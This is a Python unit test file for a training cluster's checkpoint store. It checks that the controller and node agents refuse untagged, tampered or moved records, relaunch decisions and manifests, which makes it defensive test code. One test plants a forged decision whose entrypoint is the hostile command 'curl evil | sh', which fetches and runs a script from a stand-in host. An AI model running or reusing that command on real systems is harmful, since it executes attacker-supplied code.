"""What agents and the controller act on from the store is theirs (issue 40 finding 7). Everyone with the store's
key can write there, so: a node record counts toward a commit only with the tag an agent makes with the pool's
peer token; a relaunch decision is taken up only with the tag the controller makes with it; and a node restores
only from a manifest whose bytes have the sha256 the controller verified. Without a token (and without the
digest, an input from before it) everything behaves as before, unsigned."""

from __future__ import annotations

import asyncio
import hashlib
import json
import logging
from pathlib import Path
from typing import Any

import pytest
from temporalio.exceptions import ApplicationError
from temporalio.testing import ActivityEnvironment

from activities.checkpoint_layout import (DECISION_TAG_CONTEXT, MANIFEST_PAGE_RANKS, NODE_RECORD_TAG_CONTEXT,
                                          PACE_TAG_CONTEXT, decision_key, manifest_key, node_record_key, object_tag)
from activities.checkpoint_store import StoreActivities
from activities.checkpoint_transfers import NodeCheckpointActivities
from activities.pace import pace_key, read_pace
from activities.pace_models import PaceRecord
from activities.models import (AttemptDecision, CommitCheckpointsInput, DownloadShardsInput, FindCheckpointInput,
                               LaunchRanksInput, NodeCheckpointRecord, PublishAttemptInput, ShardInfo,
                               UploadShardsInput, UploadShardsResult, WatchCheckpoints)
from trainguard.error_types import ErrorType
from trainguard.pool import REGISTRATION_PROOF_CONTEXT
from tests.unit.s3_fake import MemoryStore, memory_store

RUN = "runs/wf-1"
BUCKET = "b"
TOKEN = "pool-token-0123456789abcdef"
TARGET = WatchCheckpoints(bucket=BUCKET, run_prefix=RUN)


@pytest.fixture
def store(monkeypatch: pytest.MonkeyPatch) -> MemoryStore:
    return memory_store(monkeypatch)


def _shards(step: int, node: int) -> list[ShardInfo]:
    return [ShardInfo(rank=node, key=f"{RUN}/step-{step:08d}/rank-{node:05d}.pt", size_bytes=10,
                      sha256=f"{node:064x}", node=f"node-{node}")]


class _Agent(NodeCheckpointActivities):
    """The agent's own `upload_step` (it writes the node's record last), its shards' upload stood in for."""

    def __init__(self, store: MemoryStore, node: int, token: str | None) -> None:
        super().__init__(f"node-{node}", Path("/nonexistent"), token=token)
        self.store, self.index = store, node

    async def upload_shards(self, request: UploadShardsInput) -> UploadShardsResult:
        for shard in _shards(request.step, self.index):
            self.store.objects[shard.key] = b"x" * 10
        return UploadShardsResult(shards=_shards(request.step, self.index))

    def _newest_committed(self, workflow_id: str, target: WatchCheckpoints, before: int) -> int:
        return -1


def _agent_writes_record(store: MemoryStore, step: int, node: int, token: str | None) -> None:
    asyncio.run(_Agent(store, node, token).upload_step("wf-1", 2, TARGET, step, {node: 0.1}, step))


def _planted_record(store: MemoryStore, step: int, node: int, key_node: int | None = None) -> None:
    """A record written with the store's key alone: it names shards of the writer's choosing."""
    record = NodeCheckpointRecord(node=f"node-{node}", attempt=2, step=step, shards=[
        s.model_copy(update={"sha256": "e" * 64}) for s in _shards(step, node)])
    store.objects[node_record_key(RUN, step, f"node-{node if key_node is None else key_node}")] = (
        record.model_dump_json().encode())


def _commit(controller: StoreActivities, world_size: int = 2) -> list[int]:
    request = CommitCheckpointsInput(bucket=BUCKET, run_prefix=RUN, workflow_id="wf-1", attempt=2, min_attempt=2,
                                     world_size=world_size, num_nodes=world_size, keep_last=2, max_duration_s=0.0,
                                     poll_interval_s=0.0)
    result = asyncio.run(ActivityEnvironment().run(controller.commit_checkpoints, request))
    return [c.ref.step for c in result.commits]


# ------------------------------------------------------------------------------------------ node records


def test_a_record_without_the_pools_tag_commits_nothing(store: MemoryStore, caplog: pytest.LogCaptureFixture) -> None:
    _agent_writes_record(store, 10, 0, TOKEN)
    _planted_record(store, 10, 1)
    controller = StoreActivities(token=TOKEN)
    with caplog.at_level(logging.WARNING, logger="activities.checkpoints"):
        assert _commit(controller) == []
    assert manifest_key(RUN, 10) not in store.objects, "no manifest vouches for the planted shard"
    assert controller.refused_records == 1
    assert "node record runs/wf-1/step-00000010/nodes/node-1.json refused" in caplog.text
    assert "unsigned" in caplog.text

    _agent_writes_record(store, 10, 1, TOKEN)  # the node's own record, rewritten: the step commits
    assert _commit(controller) == [10]
    manifest = json.loads(store.objects[manifest_key(RUN, 10)])
    assert [s["sha256"] for s in manifest["shards"]] == [f"{0:064x}", f"{1:064x}"]


def test_a_tagged_record_changed_or_moved_to_another_key_is_refused(store: MemoryStore) -> None:
    _agent_writes_record(store, 10, 0, TOKEN)
    _agent_writes_record(store, 10, 1, TOKEN)
    key = node_record_key(RUN, 10, "node-1")
    tampered = json.loads(store.objects[key])
    tampered["shards"][0]["sha256"] = "e" * 64
    store.objects[key] = json.dumps(tampered).encode()
    controller = StoreActivities(token=TOKEN)
    assert _commit(controller) == [] and controller.refused_records == 1

    # A genuine record of node-0 at step 20, copied to node-1's key: the tag binds the key it was written at.
    _agent_writes_record(store, 20, 0, TOKEN)
    store.objects[node_record_key(RUN, 20, "node-1")] = store.objects[node_record_key(RUN, 20, "node-0")]
    assert _commit(StoreActivities(token=TOKEN)) == []


def test_a_record_tagged_under_another_token_is_refused(store: MemoryStore) -> None:
    _agent_writes_record(store, 10, 0, TOKEN)
    _agent_writes_record(store, 10, 1, "another-pool-token-0123456789")
    assert _commit(StoreActivities(token=TOKEN)) == []


def test_without_the_token_records_count_unsigned_as_before(store: MemoryStore) -> None:
    _agent_writes_record(store, 10, 0, None)
    _agent_writes_record(store, 10, 1, None)
    assert json.loads(store.objects[node_record_key(RUN, 10, "node-0")]).get("tag") is None
    assert _commit(StoreActivities()) == [10]


def test_pace_records_count_only_with_the_agents_tag(store: MemoryStore) -> None:
    """A planted pace record of a healthy node would have it judged slow, replaced and cordoned."""
    pace = PaceRecord(node="node-3", attempt=2, chain_id="c1", window_end=100.0, window_s=60.0,
                      rank_compute_s={3: 9.0}, step=50)
    asyncio.run(_Agent(store, 0, TOKEN).write_pace(TARGET, pace.model_copy(update={"node": "node-0"})))
    store.objects[pace_key(RUN, "node-3")] = pace.model_dump_json().encode()
    assert [r.node for r in read_pace(store, BUCKET, RUN, {}, TOKEN)] == ["node-0"]
    assert sorted(r.node for r in read_pace(store, BUCKET, RUN, {})) == ["node-0", "node-3"], "no token: unchecked"


def test_a_tag_is_never_valid_in_another_domain() -> None:
    contexts = (REGISTRATION_PROOF_CONTEXT, NODE_RECORD_TAG_CONTEXT, PACE_TAG_CONTEXT, DECISION_TAG_CONTEXT)
    assert not any(a != b and b.startswith(a) for a in contexts for b in contexts)
    document = {"node": "node-0", "attempt": 2}
    assert len({object_tag(context, "k", document, TOKEN) for context in contexts[1:]}) == 3


# ------------------------------------------------------------------------------------------ relaunch decisions


def _decision(attempt: int, **changes: Any) -> AttemptDecision:
    launch = LaunchRanksInput(workflow_id="wf-1", chain_id="c1", attempt=attempt, node="", node_rank=0, num_nodes=80,
                              ranks_per_node=1, master_addr="10.0.0.1", master_port=29500,
                              entrypoint=["python", "train.py"])
    download = DownloadShardsInput(workflow_id="wf-1", attempt=attempt, node="", bucket=BUCKET,
                                   manifest_key=manifest_key(RUN, 10), manifest_sha256="a" * 64)
    return AttemptDecision(workflow_id="wf-1", chain_id="c1", attempt=attempt, launch=launch,
                           download=download).model_copy(update=changes)


def _publish(controller: StoreActivities, decision: AttemptDecision) -> None:
    asyncio.run(ActivityEnvironment().run(controller.publish_attempt, PublishAttemptInput(
        bucket=BUCKET, run_prefix=RUN, decision=decision)))


def test_an_agent_takes_up_only_the_decision_the_controller_tagged(store: MemoryStore) -> None:
    _publish(StoreActivities(token=TOKEN), _decision(2))
    agent = NodeCheckpointActivities("node-5", Path("/nonexistent"), token=TOKEN)
    taken = agent.read_decision(TARGET)
    assert taken is not None and taken.attempt == 2
    assert taken.download is not None and taken.download.manifest_sha256 == "a" * 64

    # Written over with the store's key alone: another program, and a manifest of the writer's choosing.
    launch = LaunchRanksInput(workflow_id="wf-1", chain_id="c1", attempt=3, node="", node_rank=0, num_nodes=80,
                              ranks_per_node=1, entrypoint=["/bin/sh", "-c", "curl evil | sh"])
    store.objects[decision_key(RUN)] = _decision(3, launch=launch).model_dump_json().encode()
    assert agent.read_decision(TARGET) is None
    assert agent.read_decision(TARGET) is None, "read once per version, and still refused"

    # The controller's tagged decision of another run, copied here: the tag binds the key it was published at.
    _publish(StoreActivities(token=TOKEN), _decision(4))
    taken = agent.read_decision(TARGET)
    assert taken is not None and taken.attempt == 4
    store.objects[decision_key("runs/other")] = store.objects[decision_key(RUN)]
    assert agent.read_decision(WatchCheckpoints(bucket=BUCKET, run_prefix="runs/other")) is None


def test_a_planted_newer_decision_does_not_stop_the_controller_publishing(store: MemoryStore) -> None:
    store.objects[decision_key(RUN)] = _decision(9).model_dump_json().encode()
    _publish(StoreActivities(token=TOKEN), _decision(2))
    taken = NodeCheckpointActivities("node-5", Path("/nonexistent"), token=TOKEN).read_decision(TARGET)
    assert taken is not None and taken.attempt == 2


def test_without_the_token_decisions_are_published_and_taken_up_unsigned(store: MemoryStore) -> None:
    _publish(StoreActivities(), _decision(2))
    assert json.loads(store.objects[decision_key(RUN)]).get("tag") is None
    taken = NodeCheckpointActivities("node-5", Path("/nonexistent")).read_decision(TARGET)
    assert taken is not None and taken.attempt == 2


# ------------------------------------------------------------------------------------------ manifest digests


def _committed(store: MemoryStore, world_size: int) -> None:
    """Step 10 committed by a controller without a token, from unsigned records."""
    for node in range(world_size):
        for shard in _shards(10, node):
            store.objects[shard.key] = b"x" * 10
        record = NodeCheckpointRecord(node=f"node-{node}", attempt=2, step=10, shards=_shards(10, node))
        store.objects[node_record_key(RUN, 10, f"node-{node}")] = record.model_dump_json().encode()
    assert _commit(StoreActivities(), world_size) == [10]


def _shards_of(found_key: str | None, digest: str | None, ranks: list[int]) -> list[ShardInfo] | ApplicationError:
    try:
        return NodeCheckpointActivities._shards_of(DownloadShardsInput(
            workflow_id="wf-1", attempt=3, node="node-x", bucket=BUCKET, manifest_key=found_key,
            manifest_sha256=digest, ranks=ranks))
    except ApplicationError as error:
        return error


def test_a_node_restores_only_the_manifest_bytes_the_controller_verified(store: MemoryStore) -> None:
    _committed(store, 2)
    found = StoreActivities()._find(FindCheckpointInput(bucket=BUCKET, run_prefix=RUN, world_size=2))
    key = manifest_key(RUN, 10)
    assert found.manifest_key == key
    assert found.manifest_sha256 == hashlib.sha256(store.objects[key]).hexdigest()
    shards = _shards_of(key, found.manifest_sha256, [1])
    assert isinstance(shards, list) and [s.sha256 for s in shards] == [f"{1:064x}"]

    # Swapped after the controller chose it (a manifest it would not have passed, e.g. untagged): refused.
    swapped = json.loads(store.objects[key])
    swapped["shards"][1]["sha256"] = "e" * 64
    store.objects[key] = json.dumps(swapped, indent=1).encode()
    refused = _shards_of(key, found.manifest_sha256, [1])
    assert isinstance(refused, ApplicationError) and refused.non_retryable
    assert refused.type == ErrorType.CORRUPT_CHECKPOINT
    assert f"manifest {key} refused" in str(refused) and "the controller verified" in str(refused)
    # An input from before the digest reads it unchecked, as it always did.
    assert isinstance(_shards_of(key, None, [1]), list)


def test_a_paged_manifests_digest_covers_its_pages(store: MemoryStore) -> None:
    world = MANIFEST_PAGE_RANKS + 8
    _committed(store, world)
    found = StoreActivities()._find(FindCheckpointInput(bucket=BUCKET, run_prefix=RUN, world_size=world))
    assert found.manifest_sha256 == hashlib.sha256(store.objects[manifest_key(RUN, 10)]).hexdigest()
    shards = _shards_of(found.manifest_key, found.manifest_sha256, [world - 1])
    assert isinstance(shards, list) and [s.rank for s in shards] == [world - 1]
    page = next(k for k in store.objects if k.endswith(f"/manifest-{MANIFEST_PAGE_RANKS:05d}.json"))
    store.objects[page] = store.objects[page].replace(f"{world - 1:064x}".encode(), b"e" * 64)
    refused = _shards_of(found.manifest_key, found.manifest_sha256, [world - 1])
    assert isinstance(refused, ApplicationError) and refused.type == ErrorType.CORRUPT_CHECKPOINT
